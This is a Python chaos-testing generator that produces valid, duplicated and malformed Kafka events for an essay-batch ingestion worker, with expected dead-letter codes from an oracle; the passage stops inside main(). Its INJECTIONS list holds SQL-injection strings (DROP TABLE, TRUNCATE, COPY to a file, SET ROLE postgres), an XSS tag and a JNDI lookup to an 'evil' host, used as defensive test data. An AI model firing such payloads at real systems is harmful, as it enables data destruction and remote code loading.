"""Seeded event generator for the chaos run and the bad-input corpus.

``generate(GenConfig(seed=...))`` returns the messages to produce to the three
input topics, in production order: batches of 1..200 essays (GUEST and REGULAR)
whose content arrives before and after their registration, redeliveries (exact
copies and copies in a new envelope), validation failures, excess content, a few
batches that are never registered or never filled, batches whose every text field
is an SQL-injection string (to be stored verbatim), and a corpus of malformed
messages of many kinds (``MALFORMED_VARIANTS``) from invalid UTF-8 to a 5 MB value,
conflicting re-registrations and stolen essay ids.

Every message carries ``expect``: the SQLSTATE it must be dead-lettered with, or
None when it must be applied. ``expect`` comes from the independent oracle
(``chaos.oracle.predict``); the generator also records what it *meant* to
produce (``intent``) and refuses to return a stream on which the two disagree.

Ordering: Kafka orders messages only within a partition; messages with the same
topic and key share one. Every message of a batch is keyed by its batch id, and
the messages whose verdict depends on what came before (a conflicting
re-registration, a registration stealing another batch's essay id) are produced
after, and under the same key as, the registration they conflict with. So every
verdict is independent of how the worker interleaves partitions.
"""

from __future__ import annotations

import hashlib
import json
import math
import random
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from chaos.oracle import (
    COURSE_CODES,
    SHORT_NAMES,
    TOPIC_NAMES,
    VALIDATION_ERROR_CODES,
    Prediction,
    Verdict,
    predict,
)

BIG_PAYLOAD_BYTES = 5 * 1024 * 1024

# Strings that would do damage if any layer built SQL by pasting text. Valid
# events carry them in every text field; the database must store them verbatim.
INJECTIONS: tuple[str, ...] = (
    "'; DROP TABLE els.essay_slot; --",
    "Robert'); DROP TABLE els.batch_tracker;--",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "1; SELECT pg_sleep(10); --",
    "$$; DELETE FROM els.event_outbox; $$",
    "$fn$ BEGIN RAISE EXCEPTION 'pwned'; END $fn$",
    "%s %(event)s {0} {event} %%",
    "\\'; TRUNCATE els.essay_content; --",
    "'||(SELECT current_user)||'",
    "E'\\x41'::text",
    "x'); COPY els.batch_tracker TO '/tmp/els-leak'; --",
    "\\\\\\\" ; \\x00 \\u0000",
    "<script>alert('x')</script>",
    "${jndi:ldap://evil/a}",
    "ünïcødé ✓ \U0001d518\U0001d52b\U0001d526 漢字 — 'quoted' \"double\"",
    "-- comment",
    "/* open comment",
    "; ROLLBACK; SET ROLE postgres; --",
    "\t\r\n tab newline",
)


@dataclass(frozen=True)
class GenConfig:
    seed: int = 20261128
    batches: int = 500
    min_essays: int = 1
    max_essays: int = 200
    size_skew: float = 1.25  # > 1: more small batches (about 33 essays on average)
    duplicate_share: float = 0.20  # share of valid deliveries that are redeliveries
    semantic_duplicate_share: float = 0.15  # of those: same event in a new envelope
    failure_rate: float = 0.03  # per slot: a validation failure instead of content
    excess_batches: float = 0.08  # share of batches that receive more content than slots
    excess_max: int = 8  # at most this many extra contents per such batch
    late_registration: float = 0.35  # share of batches whose registration is not first
    unregistered: float = 0.03  # batches that are never registered (content stays pending)
    incomplete: float = 0.06  # registered batches that never get all their items
    bare_payloads: float = 0.05  # events sent without envelope
    injection_batches: int = 12
    malformed: int = 220
    malformed_redeliveries: int = 6
    big_payload_bytes: int = BIG_PAYLOAD_BYTES
    batch_prefix: str = "cb"


@dataclass(frozen=True)
class Message:
    seq: int
    kind: str  # register | content | failure: the input topic
    key: bytes | None
    value: bytes | None
    label: str  # valid | redelivery | semantic-duplicate | a malformed variant
    batch_id: str | None
    expect: str | None  # SQLSTATE to be dead-lettered with (oracle); None: applied
    intent: str | None  # what the generator meant (must equal expect)

    @property
    def malformed(self) -> bool:
        return self.expect is not None


@dataclass
class Generated:
    config: GenConfig
    messages: list[Message]
    prediction: Prediction

    def stats(self) -> dict[str, Any]:
        labels = Counter(m.label.split(":")[0] for m in self.messages)
        kinds = {m.label for m in self.messages if m.malformed}
        return {
            "messages": len(self.messages),
            "valid": sum(1 for m in self.messages if not m.malformed),
            "redeliveries": labels["redelivery"] + labels["semantic-duplicate"],
            "malformed": sum(1 for m in self.messages if m.malformed),
            "malformed_kinds": len({k.split("+")[0] for k in kinds}),
            "by_sqlstate": dict(sorted(Counter(m.expect or "applied" for m in self.messages)
                                       .items())),
            "batches": len(self.prediction.batches),
            **self.prediction.totals(),
            "excess_contents": sum(b.counts()["excess_content"][0]
                                   for b in self.prediction.batches.values()),
            "bytes": sum(len(m.value or b"") for m in self.messages),
        }


class GeneratorError(Exception):
    """The oracle disagrees with what the generator meant to produce."""


# ---------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------


class World:
    """Seeded factory of event payloads and envelopes."""

    def __init__(self, rng: random.Random, cfg: GenConfig) -> None:
        self.rng = rng
        self.cfg = cfg
        self.counter = 0

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def next_id(self) -> int:
        self.counter += 1
        return self.counter

    def timestamp(self) -> str:
        day = self.rng.randint(1, 28)
        frac = self.rng.choice(["", ".123", ".123456"])
        zone = self.rng.choice(["Z", "+00:00", "+01:00", "-05:30"])
        return f"2026-11-{day:02d}T{self.rng.randint(0, 23):02d}:{self.rng.randint(0, 59):02d}:" \
               f"{self.rng.randint(0, 59):02d}{frac}{zone}"

    def registration(self, bid: str, essay_ids: list[str], *, guest: bool,
                     inj: Callable[[str], str] | None = None) -> dict[str, Any]:
        rng = self.rng
        def text(default: str) -> str:
            return inj(default) if inj else default
        payload: dict[str, Any] = {
            "entity_id": bid,
            "expected_essay_count": len(essay_ids),
            "essay_ids": essay_ids,
            "course_code": rng.choice(COURSE_CODES),
            "user_id": text(f"user-{rng.randint(1, 60)}"),
            "org_id": text(f"org-{rng.randint(1, 5)}") if rng.random() < 0.7 else None,
            "class_id": None if guest else text(f"class-{rng.randint(1, 40)}"),
            "student_prompt_ref": ({"storage_id": text(f"prompt-{rng.randint(1, 9)}")}
                                   if rng.random() < 0.5 else None),
            "metadata": {"origin": text("chaos"), "n": rng.randint(0, 10**6)},
        }
        if inj:
            payload["metadata"][inj("key")] = inj("value")
        return payload

    def content(self, bid: str, tsid: str, *, inj: Callable[[str], str] | None = None
                ) -> dict[str, Any]:
        rng = self.rng
        def text(default: str) -> str:
            return inj(default) if inj else default
        payload: dict[str, Any] = {
            "entity_id": bid,
            "text_storage_id": tsid,
            "file_upload_id": text(f"upload-{self.next_id()}"),
            "original_file_name": text(f"essay {rng.randint(1, 999)}.docx"),
        }
        if rng.random() < 0.9:
            payload["raw_file_storage_id"] = text(f"raw-{self.next_id()}")
        if rng.random() < 0.9:
            payload["file_size_bytes"] = rng.randint(0, 5_000_000)
        if rng.random() < 0.8:
            payload["content_md5_hash"] = (inj("md5") if inj else
                                           hashlib.md5(tsid.encode()).hexdigest())
        if rng.random() < 0.5:
            payload["timestamp"] = self.timestamp()
        if inj:
            payload["correlation_id"] = inj("corr")
        return payload

    def failure(self, bid: str, fuid: str, *, inj: Callable[[str], str] | None = None
                ) -> dict[str, Any]:
        rng = self.rng
        def text(default: str) -> str:
            return inj(default) if inj else default
        payload: dict[str, Any] = {
            "entity_id": bid,
            "file_upload_id": fuid,
            "original_file_name": text(f"scan {rng.randint(1, 999)}.pdf"),
            "validation_error_code": rng.choice(VALIDATION_ERROR_CODES),
        }
        if rng.random() < 0.7:
            payload["validation_error_detail"] = {"message": text("could not extract"),
                                                  "page": rng.randint(1, 30)}
        if rng.random() < 0.5:
            payload["raw_file_storage_id"] = text(f"raw-{self.next_id()}")
        if rng.random() < 0.5:
            payload["file_size_bytes"] = rng.randint(0, 5_000_000)
        if rng.random() < 0.3:
            payload["timestamp"] = self.timestamp()
        return payload

    def envelope(self, kind: str, payload: dict[str, Any], *, style: str | None = None,
                 correlation_id: str | None = None) -> dict[str, Any]:
        """style: topic | short | untyped | bare (None: drawn)."""
        if style is None:
            r = self.rng.random()
            bare = self.cfg.bare_payloads
            style = ("bare" if r < bare else "short" if r < bare + 0.15
                     else "untyped" if r < bare + 0.2 else "topic")
        if style == "bare":
            return dict(payload)
        env: dict[str, Any] = {
            "event_id": self.uuid(),
            "event_type": TOPIC_NAMES[kind] if style == "topic" else SHORT_NAMES[kind],
            "event_timestamp": self.timestamp(),
            "source_service": {"register": "batch_orchestrator", "content": "file_service",
                               "failure": "file_service"}[kind],
            "schema_version": 1,
            "correlation_id": correlation_id or self.uuid(),
            "data": payload,
            "metadata": {"trace": self.uuid()[:8]} if self.rng.random() < 0.5 else {},
        }
        if style == "untyped":
            del env["event_type"]
        return env

    def encode(self, obj: Any) -> bytes:
        return json.dumps(obj, ensure_ascii=self.rng.random() < 0.3).encode("utf-8")


@dataclass
class Victim:
    """A registered batch that malformed messages can aim at."""

    bid: str
    essay_ids: list[str]
    payload: dict[str, Any]
    reg_time: float


@dataclass
class _Spec:
    time: float
    kind: str
    key: bytes | None
    value: bytes | None
    label: str
    batch_id: str | None
    intent: str | None


# ---------------------------------------------------------------------------
# Malformed variants: (label, topic kind, builder(world, victim) -> value bytes, intent)
# ---------------------------------------------------------------------------

Builder = Callable[[World, Victim], "bytes | None"]


def _fresh(world: World, kind: str, v: Victim) -> dict[str, Any]:
    n = world.next_id()
    if kind == "register":
        bid = f"{v.bid}-mal{n}"
        return world.registration(bid, [f"{bid}-e{i}" for i in range(3)], guest=True)
    if kind == "content":
        return world.content(v.bid, f"{v.bid}-mal-t{n}")
    return world.failure(v.bid, f"{v.bid}-mal-u{n}")


def _env(world: World, kind: str, v: Victim, mutate: Callable[[dict[str, Any]], None],
         *, style: str = "topic") -> bytes:
    payload = _fresh(world, kind, v)
    mutate(payload)
    return json.dumps(world.envelope(kind, payload, style=style)).encode()


def _set(name: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def mutate(p: dict[str, Any]) -> None:
        p[name] = value
    return mutate


def _drop(name: str) -> Callable[[dict[str, Any]], None]:
    def mutate(p: dict[str, Any]) -> None:
        p.pop(name, None)
    return mutate


def _raw_envelope(world: World, kind: str, v: Victim,
                  mutate: Callable[[dict[str, Any]], None]) -> bytes:
    env = world.envelope(kind, _fresh(world, kind, v), style="topic")
    mutate(env)
    return json.dumps(env).encode()


def _splice(value: bytes, marker: bytes, insert: bytes) -> bytes:
    i = value.index(marker) + len(marker)
    return value[:i] + insert + value[i:]


def _valid_bytes(world: World, kind: str, v: Victim) -> bytes:
    return json.dumps(world.envelope(kind, _fresh(world, kind, v), style="topic")).encode()


def _conflict(change: str) -> Builder:
    def build(world: World, v: Victim) -> bytes:
        p = json.loads(json.dumps(v.payload))
        if change == "user_id":
            p["user_id"] = p["user_id"] + "-other"
        elif change == "course_code":
            p["course_code"] = next(c for c in COURSE_CODES if c != p["course_code"])
        elif change == "class_id":
            p["class_id"] = None if p.get("class_id") else "class-conflict"
        elif change == "org_id":
            p["org_id"] = "org-conflict" if p.get("org_id") != "org-conflict" else None
        elif change == "essay_order":
            if len(p["essay_ids"]) < 2:
                p["essay_ids"] = [*p["essay_ids"], p["essay_ids"][0] + "-more"]
                p["expected_essay_count"] = 2
            else:
                p["essay_ids"] = list(reversed(p["essay_ids"]))
        elif change == "one_more_essay":
            p["essay_ids"] = [*p["essay_ids"], f"{v.bid}-extra-{world.next_id()}"]
            p["expected_essay_count"] = len(p["essay_ids"])
        return json.dumps(world.envelope("register", p, style="topic")).encode()
    return build


def _steal(world: World, v: Victim) -> bytes:
    bid = f"thief-{world.next_id()}-of-{v.bid}"[:255]
    ids = [f"{bid}-e{i}" for i in range(world.rng.randint(1, 4))]
    ids.insert(world.rng.randint(0, len(ids)), world.rng.choice(v.essay_ids))
    p = world.registration(bid, ids, guest=world.rng.random() < 0.5)
    return json.dumps(world.envelope("register", p, style="topic")).encode()


def _too_many(world: World, v: Victim) -> bytes:
    bid = f"{v.bid}-huge{world.next_id()}"
    ids = [f"{bid}-{i}" for i in range(10001)]
    return json.dumps(world.envelope("register", world.registration(bid, ids, guest=True),
                                     style="topic")).encode()


def _big(world: World, v: Victim) -> bytes:
    p = _fresh(world, "content", v)
    p["original_file_name"] = "A" * world.cfg.big_payload_bytes
    return json.dumps(world.envelope("content", p, style="topic")).encode()


def _count(mutation: str) -> Callable[[dict[str, Any]], None]:
    def mutate(p: dict[str, Any]) -> None:
        if mutation == "more":
            p["expected_essay_count"] = len(p["essay_ids"]) + 1
        elif mutation == "less":
            p["expected_essay_count"] = len(p["essay_ids"]) - 1
        elif mutation == "dup":
            p["essay_ids"] = [*p["essay_ids"][:-1], p["essay_ids"][0]]
    return mutate


def _pv(kind: str, mutate: Callable[[dict[str, Any]], None], style: str = "topic") -> Builder:
    """A valid event of ``kind`` whose payload is then broken by ``mutate``."""
    def build(world: World, victim: Victim) -> bytes:
        return _env(world, kind, victim, mutate, style=style)
    return build


def _ev(kind: str, mutate: Callable[[dict[str, Any]], None]) -> Builder:
    """A valid envelope of ``kind``, then broken by ``mutate``."""
    def build(world: World, victim: Victim) -> bytes:
        return _raw_envelope(world, kind, victim, mutate)
    return build


def _raw(value: bytes | None) -> Builder:
    def build(world: World, victim: Victim) -> bytes | None:
        return value
    return build


def _spliced(kind: str, marker: bytes, insert: bytes, *, prefix: bytes = b"",
             suffix: bytes = b"", half: bool = False) -> Builder:
    """Valid bytes of ``kind`` with ``insert`` after ``marker`` (or cut, or wrapped)."""
    def build(world: World, victim: Victim) -> bytes:
        value = _valid_bytes(world, kind, victim)
        if marker:
            value = _splice(value, marker, insert)
        if half:
            value = value[: len(value) // 2]
        return prefix + value + suffix
    return build


def _single_quoted(world: World, victim: Victim) -> bytes:
    return f"{{'entity_id': '{victim.bid}'}}".encode()


def _variants() -> list[tuple[str, str, Builder, str]]:
    out: list[tuple[str, str, Builder, str]] = []

    def add(label: str, kind: str, build: Builder, intent: str) -> None:
        out.append((label, kind, build, intent))

    # ELV01: not UTF-8 JSON that jsonb can hold, not an object, malformed envelope
    add("invalid-json:truncated", "content", _spliced("content", b"", b"", half=True), "ELV01")
    add("invalid-json:trailing-garbage", "register", _spliced("register", b"", b"", suffix=b"}"),
        "ELV01")
    add("invalid-json:single-quotes", "failure", _single_quoted, "ELV01")
    add("invalid-json:nan", "content",
        _spliced("content", b'"data": {', b'"file_size_bytes": NaN, '), "ELV01")
    add("invalid-json:utf8-bom", "register",
        _spliced("register", b"", b"", prefix=b"\xef\xbb\xbf"), "ELV01")
    add("invalid-utf8", "content",
        _spliced("content", b'"original_file_name": "', b"\xff\xfe\xc3("), "ELV01")
    add("empty-value", "failure", _raw(b""), "ELV01")
    add("tombstone", "content", _raw(None), "ELV01")
    add("not-object:array", "register", _raw(b'[{"entity_id": "x"}]'), "ELV01")
    add("not-object:string", "content", _raw(b'"just a string"'), "ELV01")
    add("not-object:number", "failure", _raw(b"42"), "ELV01")
    add("not-object:null", "register", _raw(b"null"), "ELV01")
    add("not-object:true", "content", _raw(b"true"), "ELV01")
    not_objects: list[Any] = [[], "data", 7, None]
    for data in not_objects:
        add(f"envelope:data-not-object:{json.dumps(data)}", "content",
            _ev("content", _set("data", data)), "ELV01")
    envelope_fields: list[tuple[str, Any]] = [
        ("event_id", 42), ("source_service", {"x": 1}), ("metadata", []),
        ("schema_version", "1"), ("event_timestamp", 5), ("event_type", 7),
        ("correlation_id", 12345)]
    for name, value in envelope_fields:
        add(f"envelope:wrong-type:{name}", "failure", _ev("failure", _set(name, value)), "ELV01")
    add("envelope:empty-correlation-id", "register", _ev("register", _set("correlation_id", "")),
        "ELV01")
    add("envelope:long-correlation-id", "content",
        _ev("content", _set("correlation_id", "c" * 256)), "ELV01")

    def misrouted_and_bad_envelope(env: dict[str, Any]) -> None:
        env["event_type"] = TOPIC_NAMES["register"]
        env["correlation_id"] = ""

    add("envelope:misrouted-and-empty-correlation-id", "content",
        _ev("content", misrouted_and_bad_envelope), "ELV01")
    add("nul-escape", "content", _pv("content", _set("original_file_name", "essay\u0000.docx")),
        "ELV01")
    add("nul-escape:in-key", "register", _pv("register", _set("metadata", {"k\u0000": 1})),
        "ELV01")
    add("lone-surrogate", "failure",
        _spliced("failure", b'"original_file_name": "', b"\\ud800"), "ELV01")

    # ELV02: each required field missing, or null
    for kind, fields in (("register", ("entity_id", "expected_essay_count", "essay_ids",
                                       "course_code", "user_id")),
                         ("content", ("entity_id", "text_storage_id", "file_upload_id",
                                      "original_file_name")),
                         ("failure", ("entity_id", "file_upload_id", "original_file_name",
                                      "validation_error_code"))):
        for name in fields:
            add(f"missing:{kind}.{name}", kind, _pv(kind, _drop(name)), "ELV02")
            add(f"null:{kind}.{name}", kind, _pv(kind, _set(name, None)), "ELV02")
    add("missing:bare-payload.entity_id", "content",
        _pv("content", _drop("entity_id"), style="bare"), "ELV02")

    # ELV03: misrouted event_type, wrong types, lengths, ranges, enums, formats
    add("misrouted:register-on-content-topic", "content",
        _ev("content", _set("event_type", TOPIC_NAMES["register"])), "ELV03")
    add("misrouted:short-name-of-content-on-failure-topic", "failure",
        _ev("failure", _set("event_type", SHORT_NAMES["content"])), "ELV03")
    add("misrouted:unknown-event-type", "register",
        _ev("register", _set("event_type", "huleedu.other.v9")), "ELV03")
    add("misrouted:bare-payload", "content",
        _pv("content", _set("event_type", SHORT_NAMES["failure"]), style="bare"), "ELV03")
    add("injection:event-type", "failure", _ev("failure", _set("event_type", INJECTIONS[0])),
        "ELV03")
    wrong_types: list[tuple[str, str, Any]] = [
        ("register", "entity_id", 123), ("register", "expected_essay_count", "3"),
        ("register", "expected_essay_count", True), ("register", "essay_ids", "a,b,c"),
        ("register", "essay_ids", [1, 2, 3]), ("register", "course_code", 5),
        ("register", "user_id", {"id": 1}), ("register", "org_id", 7),
        ("register", "class_id", True), ("register", "student_prompt_ref", ["p"]),
        ("register", "metadata", "m"), ("content", "entity_id", ["b"]),
        ("content", "text_storage_id", 99), ("content", "file_upload_id", []),
        ("content", "original_file_name", {}), ("content", "file_size_bytes", "12"),
        ("content", "content_md5_hash", 1), ("content", "raw_file_storage_id", False),
        ("content", "timestamp", 1700000000), ("failure", "validation_error_detail", "x"),
        ("failure", "validation_error_code", 3), ("failure", "file_size_bytes", 1.5),
        ("failure", "raw_file_storage_id", {"a": 1}),
    ]
    for kind, name, value in wrong_types:
        add(f"wrong-type:{kind}.{name}={json.dumps(value)}", kind, _pv(kind, _set(name, value)),
            "ELV03")

    def long_essay_id(p: dict[str, Any]) -> None:
        p["essay_ids"] = [*p["essay_ids"][:-1], "e" * 256]

    def empty_essay_id(p: dict[str, Any]) -> None:
        p["essay_ids"] = [*p["essay_ids"][:-1], ""]

    for kind, name, length in (("register", "entity_id", 256), ("register", "user_id", 256),
                               ("register", "class_id", 256), ("register", "org_id", 300),
                               ("content", "original_file_name", 1025),
                               ("content", "text_storage_id", 256),
                               ("content", "content_md5_hash", 256),
                               ("failure", "file_upload_id", 256),
                               ("failure", "original_file_name", 2000)):
        add(f"too-long:{kind}.{name}", kind, _pv(kind, _set(name, "x" * length)), "ELV03")
    add("too-long:register.essay_ids[item]", "register", _pv("register", long_essay_id), "ELV03")
    for kind, name in (("register", "user_id"), ("content", "text_storage_id"),
                       ("failure", "original_file_name"), ("content", "entity_id")):
        add(f"empty-string:{kind}.{name}", kind, _pv(kind, _set(name, "")), "ELV03")
    add("empty-string:register.essay_ids[item]", "register", _pv("register", empty_essay_id),
        "ELV03")
    add("non-integer-count", "register", _pv("register", _set("expected_essay_count", 2.5)),
        "ELV03")
    add("negative-count", "register", _pv("register", _set("expected_essay_count", -1)), "ELV03")
    add("zero-count", "register", _pv("register", _set("expected_essay_count", 0)), "ELV03")
    add("negative-file-size", "content", _pv("content", _set("file_size_bytes", -5)), "ELV03")
    add("fractional-file-size", "content", _pv("content", _set("file_size_bytes", 10.5)),
        "ELV03")
    for code in ("ENG9", "eng5", "ENG5 ", INJECTIONS[1]):
        add(f"unknown-course-code:{code}", "register", _pv("register", _set("course_code", code)),
            "ELV03")
    for code in ("SOMETHING_ELSE", INJECTIONS[3]):
        add(f"unknown-validation-error-code:{code}", "failure",
            _pv("failure", _set("validation_error_code", code)), "ELV03")
    for stamp in ("yesterday", "28/11/2026", "2026-11-28 at noon"):
        add(f"bad-timestamp:{stamp}", "content", _pv("content", _set("timestamp", stamp)),
            "ELV03")
    add("big-payload-5mb", "content", _big, "ELV03")
    for kind in ("content", "failure"):
        add(f"data-correlation-id-wrong-type:{kind}", kind,
            _pv(kind, _set("correlation_id", 42)), "ELV03")

    # ELV04..ELV06
    add("count-mismatch:more", "register", _pv("register", _count("more")), "ELV04")
    add("count-mismatch:less", "register", _pv("register", _count("less")), "ELV04")
    add("duplicate-essay-ids", "register", _pv("register", _count("dup")), "ELV05")
    add("too-many-essays:10001", "register", _too_many, "ELV06")

    # ELC01, ELC02: stateful, produced after (and keyed like) the registration they hit
    for change in ("user_id", "course_code", "class_id", "org_id", "essay_order",
                   "one_more_essay"):
        add(f"conflicting-reregistration:{change}", "register", _conflict(change), "ELC01")
    add("stolen-essay-id", "register", _steal, "ELC02")
    return out


MALFORMED_VARIANTS = _variants()

# variants produced at most once per stream (large values)
_HEAVY = {"big-payload-5mb": 1, "too-many-essays:10001": 2}
_STATEFUL = ("ELC01", "ELC02")


def build_malformed(world: World, victims: list[Victim], count: int
                    ) -> list[tuple[Victim, str, str, bytes | None, str]]:
    """At least one message of every variant, then random ones up to ``count``:
    (victim, label, kind, value, intended SQLSTATE)."""
    rng = world.rng
    variants = list(MALFORMED_VARIANTS)
    chosen = list(variants)
    light = [v for v in variants if v[0] not in _HEAVY]
    heavy_left = {k: n - 1 for k, n in _HEAVY.items()}
    stateful = [v for v in variants if v[3] in _STATEFUL]
    while len(chosen) < count:
        pick = rng.choice(stateful if rng.random() < 0.1 else variants)
        if pick[0] in heavy_left:
            if heavy_left[pick[0]] <= 0:
                pick = rng.choice(light)
            else:
                heavy_left[pick[0]] -= 1
        chosen.append(pick)
    out = []
    for label, kind, build, intent in chosen:
        victim = rng.choice(victims)
        out.append((victim, label, kind, build(world, victim), intent))
    return out


# ---------------------------------------------------------------------------
# The whole stream
# ---------------------------------------------------------------------------


def _essay_count(rng: random.Random, cfg: GenConfig) -> int:
    """Skewed log-uniform in [min, max]: many small batches, some large ones."""
    lo, hi = math.log(cfg.min_essays), math.log(cfg.max_essays + 1)
    x = rng.random() ** cfg.size_skew
    return min(cfg.max_essays, max(cfg.min_essays, int(math.exp(lo + x * (hi - lo)))))


def _injector(batch_no: int, rng: random.Random) -> Callable[[str], str]:
    def inj(tag: str) -> str:
        return f"{rng.choice(INJECTIONS)} [{tag} #{batch_no}]"
    return inj


def generate(cfg: GenConfig) -> Generated:
    rng = random.Random(cfg.seed)
    world = World(rng, cfg)
    specs: list[_Spec] = []
    victims: list[Victim] = []
    injection_batches = set(rng.sample(range(cfg.batches), min(cfg.injection_batches,
                                                               cfg.batches)))
    forced_sizes = {0: cfg.min_essays, 1: cfg.max_essays}

    def emit(time: float, kind: str, bid: str, obj: dict[str, Any], label: str = "valid",
             value: bytes | None = None) -> None:
        data = value if value is not None else world.encode(obj)
        specs.append(_Spec(time, kind, bid.encode(), data, label, bid, None))
        if rng.random() < cfg.duplicate_share / (1 - cfg.duplicate_share):
            later = time + rng.uniform(0.0005, 0.25)
            if rng.random() < cfg.semantic_duplicate_share and "data" in obj:
                specs.append(_Spec(later, kind, bid.encode(),
                                   world.encode(_semantic_copy(world, kind, obj)),
                                   "semantic-duplicate", bid, None))
            else:
                specs.append(_Spec(later, kind, bid.encode(), data, "redelivery", bid, None))

    for b in range(cfg.batches):
        n = forced_sizes.get(b) or _essay_count(rng, cfg)
        inj = _injector(b, rng) if b in injection_batches else None
        bid = inj("batch") if inj else f"{cfg.batch_prefix}-{b:04d}"
        essay_ids = [inj(f"essay {i}") if inj else f"{bid}-e{i:03d}" for i in range(n)]
        guest = rng.random() < 0.5
        r = rng.random()
        category = ("unregistered" if r < cfg.unregistered
                    else "incomplete" if r < cfg.unregistered + cfg.incomplete
                    else "excess" if r < cfg.unregistered + cfg.incomplete + cfg.excess_batches
                    else "complete")
        items = n
        if category == "unregistered":
            items = rng.randint(1, n)
        elif category == "incomplete":
            items = n - rng.randint(1, max(1, n // 3)) if n > 1 else 0
        kinds = ["failure" if category != "excess" and rng.random() < cfg.failure_rate
                 else "content" for _ in range(items)]
        if category == "excess":
            kinds += ["content"] * rng.randint(1, cfg.excess_max)

        start = rng.uniform(0.0, 0.97)
        span = rng.uniform(0.005, 0.2)
        times = sorted(start + rng.uniform(0, span) for _ in kinds)
        late = rng.random() < cfg.late_registration and bool(times)
        reg_time = rng.uniform(start, start + span) if late else start - 0.0001

        if category != "unregistered":
            payload = world.registration(bid, essay_ids, guest=guest, inj=inj)
            emit(reg_time, "register", bid, world.envelope("register", payload))
            victims.append(Victim(bid, essay_ids, payload, reg_time))
        for j, (kind, t) in enumerate(zip(kinds, times, strict=True)):
            if kind == "content":
                tsid = inj(f"text {j}") if inj else f"{bid}-t{j:03d}"
                p = world.content(bid, tsid, inj=inj)
            else:
                fuid = inj(f"failed upload {j}") if inj else f"{bid}-f{j:03d}"
                p = world.failure(bid, fuid, inj=inj)
            corr = inj("envelope corr") if inj and rng.random() < 0.5 else None
            emit(t, kind, bid, world.envelope(kind, p, correlation_id=corr))

    malformed = build_malformed(world, victims, cfg.malformed)
    for victim, label, kind, value, intent in malformed:
        if intent in _STATEFUL:
            t = victim.reg_time + rng.uniform(0.0005, 0.1)
        else:
            t = rng.uniform(0.0, 1.0)
        specs.append(_Spec(t, kind, victim.bid.encode(), value, label, None, intent))
    again = rng.sample([s for s in specs if s.intent is not None],
                       min(cfg.malformed_redeliveries, len(malformed)))
    for s in again:
        if len(s.value or b"") < 100_000:
            specs.append(_Spec(s.time + rng.uniform(0.001, 0.2), s.kind, s.key, s.value,
                               s.label + "+redelivery", None, s.intent))

    specs.sort(key=lambda s: s.time)
    prediction = predict((i, s.kind, s.key, s.value) for i, s in enumerate(specs))
    messages: list[Message] = []
    disagreements: list[str] = []
    for verdict, (i, s) in zip(prediction.verdicts, enumerate(specs), strict=True):
        assert verdict.seq == i
        if verdict.sqlstate != s.intent:
            disagreements.append(f"#{i} {s.label}: meant {s.intent}, oracle says "
                                 f"{verdict.sqlstate} ({verdict.field}: {verdict.reason})")
        messages.append(Message(i, s.kind, s.key, s.value, s.label,
                                s.batch_id or verdict.batch_id, verdict.sqlstate, s.intent))
    if disagreements:
        raise GeneratorError(f"{len(disagreements)} message(s): " + "; ".join(disagreements[:10]))
    return Generated(cfg, messages, prediction)


def _semantic_copy(world: World, kind: str, env: dict[str, Any]) -> dict[str, Any]:
    """The same event in a new envelope (new event and correlation id). Registrations
    also change metadata and prompt reference (not identity); contents and failures
    change a stored field, which must not change anything: the first copy wins."""
    data = json.loads(json.dumps(env["data"]))
    if kind == "register":
        data["metadata"] = {"redelivered": True}
        data["student_prompt_ref"] = {"storage_id": "prompt-changed"}
    elif kind == "content":
        data["original_file_name"] = "re-upload " + data["original_file_name"][:1000]
    else:
        data["validation_error_code"] = "UNKNOWN_VALIDATION_ERROR"
    return world.envelope(kind, data, style="topic")


# ---------------------------------------------------------------------------
# The bad-input corpus (tests/test_bad_input_corpus.py)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Corpus:
    setup: list[tuple[str, str, bytes]]  # (kind, batch id, value): the state the cases aim at
    cases: list[Message]  # one malformed message per variant
    verdicts: dict[int, Verdict]  # the oracle's verdict on each case, by seq
    injection: list[tuple[str, dict[str, Any]]]  # valid events full of injection strings


def corpus(seed: int = 6) -> Corpus:
    """Every malformed variant once, aimed at a small registered world, plus valid
    events that carry SQL-injection strings in every text field."""
    cfg = GenConfig(seed=seed, big_payload_bytes=BIG_PAYLOAD_BYTES)
    rng = random.Random(seed)
    world = World(rng, cfg)
    setup: list[tuple[str, str, bytes]] = []
    victims: list[Victim] = []
    for b in range(3):
        bid = f"victim-{b}"
        ids = [f"{bid}-e{i}" for i in range(3 + b)]
        payload = world.registration(bid, ids, guest=b % 2 == 0)
        setup.append(("register", bid, json.dumps(world.envelope("register", payload,
                                                                 style="topic")).encode()))
        setup.append(("content", bid, json.dumps(world.envelope(
            "content", world.content(bid, f"{bid}-t0"), style="topic")).encode()))
        victims.append(Victim(bid, ids, payload, 0.0))
    cases = []
    for i, (label, kind, build, intent) in enumerate(MALFORMED_VARIANTS):
        victim = victims[i % len(victims)]
        value = build(world, victim)
        cases.append(Message(i, kind, victim.bid.encode(), value, label, victim.bid, intent,
                             intent))
    prediction = predict([(-1 - i, k, b.encode(), v) for i, (k, b, v) in enumerate(setup)]
                         + [(c.seq, c.kind, c.key, c.value) for c in cases])
    verdicts = {v.seq: v for v in prediction.verdicts}
    wrong = [f"{c.label}: oracle says {verdicts[c.seq].sqlstate}" for c in cases
             if verdicts[c.seq].sqlstate != c.intent]
    if wrong:
        raise GeneratorError("; ".join(wrong))

    injection: list[tuple[str, dict[str, Any]]] = []
    for b, text in enumerate(INJECTIONS):
        def inj(tag: str, text: str = text, b: int = b) -> str:
            return f"{text} [{tag} #{b}]"
        bid = inj("batch")
        ids = [inj(f"essay {i}") for i in range(2)]
        reg = world.registration(bid, ids, guest=b % 2 == 1, inj=inj)
        injection.append(("register", world.envelope("register", reg, style="topic",
                                                     correlation_id=inj("corr"))))
        c = world.content(bid, inj("text"), inj=inj)
        injection.append(("content", world.envelope("content", c, style="bare")))
        f = world.failure(bid, inj("failed upload"), inj=inj)
        f["validation_error_detail"] = {inj("key"): inj("value")}
        f["raw_file_storage_id"] = inj("raw")
        injection.append(("failure", world.envelope("failure", f, style="short",
                                                    correlation_id=inj("fail corr"))))
    return Corpus(setup, cases, {c.seq: verdicts[c.seq] for c in cases}, injection)


def main() -> None:  # pragma: no cover - a quick look at a stream
    import argparse

    parser = argparse.ArgumentParser(description="print statistics of a generated stream")
    parser.add_argument("--seed", type=int, default=GenConfig.seed)
